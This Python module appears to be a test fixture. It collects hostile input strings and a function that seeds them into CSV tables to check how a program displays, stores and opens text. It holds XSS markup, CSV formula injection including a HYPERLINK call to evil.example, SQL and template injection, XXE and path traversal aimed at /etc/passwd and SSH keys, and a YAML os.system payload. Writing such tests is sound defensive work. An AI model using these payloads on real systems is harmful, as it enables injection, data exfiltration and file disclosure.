"""One list of what text can be taken for by whatever shows it, stores it or opens it; every test of hostile words draws from here."""

import csv
import re
from collections.abc import Iterator
from pathlib import Path

from loaders.package import read_package

MARKUP = (
    "<script>window.struck=1</script>",
    "<img src=x onerror=window.struck=1>",
    "<svg/onload=window.struck=1>",
    '"><iframe srcdoc="<script>parent.struck=1</script>">',
    "' onmouseover='window.struck=1' x='",
    "</style></title></textarea><details open ontoggle=window.struck=1>",
    '<a href="javascript:window.struck=1">x</a>',
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<math><mtext><style><img src=x onerror=window.struck=1></style>",
    "]]><![CDATA[<x>&xxe;&#0;&lt;b&gt;",
    '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "<b>x</b><br><sup>y</sup>",
)
LINKS = (
    "javascript:window.struck=1//",
    "JaVaScRiPt\t:window.struck=1",
    "data:text/html,<script>parent.struck=1</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example/<script>",
    "http://user:pass@evil.example\\@x/",
)
MARKDOWN = (
    "[x](javascript:window.struck=1)",
    "[x](https://evil.example)",
    "![x](https://evil.example/x.png)",
    ":material/delete: :red[x] :smile: :red-background[x]",
    "$\\href{javascript:window.struck=1}{x}$",
    "$$\\includegraphics{https://evil.example/x}$$",
    "`x` **x** ~~x~~ _x_ :orange-badge[x]",
    "# x\n\n| a | b |\n|---|---|\n| [x](https://evil.example) | y |",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "%0A=1+1",
    "'=1+1",
    '"=1+1',
    ";=1+1;",
)
QUERIES = (
    "' or 1=1 --",
    '"; drop table target; --',
    "'; attach '/tmp/x' as y; copy target to '/tmp/x.csv'; --",
    "$$; delete from target; $$",
    "/* */ union select * from read_text('/etc/passwd')",
    "%' or note like '%",
    "\\'; vacuum; --",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{}",
    "{low}",
    "{high.__class__}",
    "%s%n%d",
    "%(x)s",
    "{{{{",
    "}}",
    "{0.__class__.__mro__}",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd\0.csv",
    "C:\\x.exe",
    "\\\\evil.example\\x",
    "CON",
    "aux.csv",
    "x/../y",
    ".",
    "~/.ssh/id_rsa",
)
SIGNS = (
    "a\0b",
    "\x01\x02\x08\x0b\x0c\x0e\x1b[31mx\x1b[0m\x7f",
    "x\r\nSet-Cookie: struck=1\r\n\r\n<script>",
    "\u202egnp.exe",
    "\u2066x\u2069\u2067y",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\ufffe\uffff\ufdd0",
    "e\u0301\u0323" + "\u0316\u0301" * 40,
    "👩‍👩‍👧‍👦🏳️‍🌈\U0001f1fb\U0001f1f3",
    "\u2028x\u2029y\x85z",
    "ạ̈́" * 60,
    "x" * 3000,
    "ỗ " * 700,
)
BREAKERS = (
    "--- !!python/object/apply:os.system ['x']",
    "key: [x, {y: z}] # x",
    '{"__proto__": {"struck": 1}}',
    '","x":"y',
    "\\u0000\\x00\\",
    '"quoted", "",',
    "a,b;c\td|e",
    "NaN",
    "null",
    "-",
    "1e999",
    "0x1F",
)
LONE = "\ud800x\udfff"  # no text file can hold it, a message of a browser can

GROUPS = {
    "markup": MARKUP,
    "links": LINKS + MARKDOWN,
    "formulas": FORMULAS,
    "words": QUERIES + TEMPLATES + PATHS + BREAKERS,
    "signs": SIGNS,
}
EVERY = (*dict.fromkeys(words for group in GROUPS.values() for words in group), LONE)

# Words that mean something to the program itself: ids, codes, years and what is read as a form.
MEANT = re.compile(r".*_id$|^(meaning|kind|level|role|state|severity|shape|direction|completeness|modality|territory|status|method|confidence|"
                   r"compiler|scope|concept|language|as_of_precision|field|list_id|code|value|horizons|text_file|verdict|operator|issuer_level|template_.*|published_text)$")  # fmt: skip
# The program's own words, and what files of readers are recognized by.
OWN_WORDS = ("text", "heading", "alias", "operator", "setting")


def spoil(folder: Path, group: str) -> Iterator[tuple[str, str]]:
    """Put the strings of a group in front of every free text in the tables of `folder`, by turns; yields (table, column) of each column so changed."""
    strings = [words for words in GROUPS[group] if "\0" not in words]  # a text file with a NUL is no CSV
    for table in read_package(folder).tables:
        if table.name in OWN_WORDS:
            continue
        free = [f.name for f in table.fields if f.type == "string" and not MEANT.match(f.name) and "enum" not in f.constraints]
        with table.path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for number, row in enumerate(rows):
            for place, name in enumerate(free):
                if row[name] and (name != "url" or number % 2):  # else no address would be left
                    row[name] = f"{strings[(number + place) % len(strings)]} {row[name]}"
        with table.path.open("w", encoding="utf-8", newline="") as file:
            out = csv.DictWriter(file, [f.name for f in table.fields], lineterminator="\r\n")  # else a lone \r stands unquoted
            out.writeheader()
            out.writerows(rows)
        yield from ((table.name, name) for name in free)
